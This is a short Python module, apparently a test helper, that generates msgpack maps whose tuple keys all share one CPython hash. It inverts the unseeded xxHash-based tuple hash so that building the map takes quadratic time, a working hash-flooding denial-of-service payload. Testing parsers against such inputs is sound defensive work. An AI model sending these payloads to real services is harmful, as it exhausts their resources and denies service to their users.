"""Keys of msgpack maps that fall on one another: what an attacker sends, made in microseconds.

The hash of a tuple of integers (xxHash, Objects/tupleobject.c of CPython) has no seed. So the
second number of each pair can be computed such that all pairs have the same hash, and a map of n
of them takes n * n / 2 comparisons to build.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice
from typing import Final

import msgspec

P1: Final = 11400714785074694791
P2: Final = 14029467366897019727
P5: Final = 2870177450012600261
MASK: Final = (1 << 64) - 1
WANTED: Final = 0x1234567890ABCDEF  # the state before the second rotation, the same for all
LARGEST: Final = (1 << 61) - 2  # an integer is its own hash up to here


def pairs() -> Iterator[tuple[int, int]]:
    """Pairs with one hash."""
    inverse, first = pow(P2, -1, 1 << 64), 0
    while True:
        first += 1
        state = (P5 + first * P2) & MASK
        state = ((state << 31) | (state >> 33)) & MASK
        second = (WANTED - state * P1) * inverse & MASK
        second -= (second >> 63) << 64
        if -LARGEST < second < LARGEST and second != -1:
            yield first, second


def flood(count: int) -> bytes:
    """A map with `count` arrays as keys, all of one hash."""
    keys = map(msgspec.msgpack.encode, islice(pairs(), count))
    return b"\xdf" + count.to_bytes(4, "big") + b"".join(key + b"\xc0" for key in keys)


def header(**keys: bytes) -> bytes:
    """A map from text to values that are encoded already."""
    body = b"".join(msgspec.msgpack.encode(key) + value for key, value in keys.items())
    return bytes([0x80 + len(keys)]) + body
